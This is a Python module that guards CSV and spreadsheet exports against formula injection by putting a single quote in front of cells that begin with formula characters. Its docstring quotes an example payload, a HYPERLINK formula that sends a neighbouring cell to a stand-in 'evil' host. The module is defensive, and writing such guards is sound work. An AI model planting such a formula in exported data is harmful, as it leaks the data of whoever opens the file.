"""Spreadsheet-safe text for every CSV / XLSX the project writes (dashboard downloads, the digest's attachment,
`civicradar classify`): public posts are untrusted text.

A spreadsheet may treat a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula:
`=HYPERLINK("http://evil/?"&A1,"click")` in a post would become a live link that leaks the cell beside it. Such
text (also behind leading spaces, and the full-width forms) gets OWASP's guard (CSV injection): a leading single
quote, so the spreadsheet shows it as text. Numbers stay numbers, and text that is only a number (`-5`,
`+1.5e3`) cannot run and is left alone. No SQL here: plain pandas, so any package may use it.
"""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd

# OWASP's list, and the full-width forms that some spreadsheets (Excel with a Japanese input method) also take
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
GUARD = "'"
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
# CRLF line ends (RFC 4180) also make the writer quote a field holding a lone carriage return, which spreadsheets
# read as a new row: "hi\r=HYPERLINK(…)" would otherwise start a row with a formula
LINE_END = "\r\n"


def guard_text(value: object) -> object:
    """`value` with OWASP's quote in front when a spreadsheet could read it as a formula; anything else as is.

    Leading spaces and line feeds are looked past: some importers trim them before deciding.
    """
    if not isinstance(value, str):
        return value
    start = value.lstrip(" \n")
    return GUARD + value if start.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(start) else value


def formula_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """Every text cell and column name guarded; numeric, time and boolean columns untouched."""
    out = frame.rename(columns=guard_text)
    for i in range(out.shape[1]):
        series = out.iloc[:, i]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        if series.dtype == object or isinstance(series.dtype, pd.StringDtype):
            out.isetitem(i, series.map(guard_text))
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """`frame` as formula-safe CSV text with CRLF line ends, without the index."""
    return str(formula_safe(frame).to_csv(index=False, lineterminator=LINE_END))


def write_csv(frame: pd.DataFrame, path: Path | str) -> None:
    """`frame` written to `path` as formula-safe UTF-8 CSV with CRLF line ends, without the index."""
    formula_safe(frame).to_csv(path, index=False, lineterminator=LINE_END, encoding="utf-8")
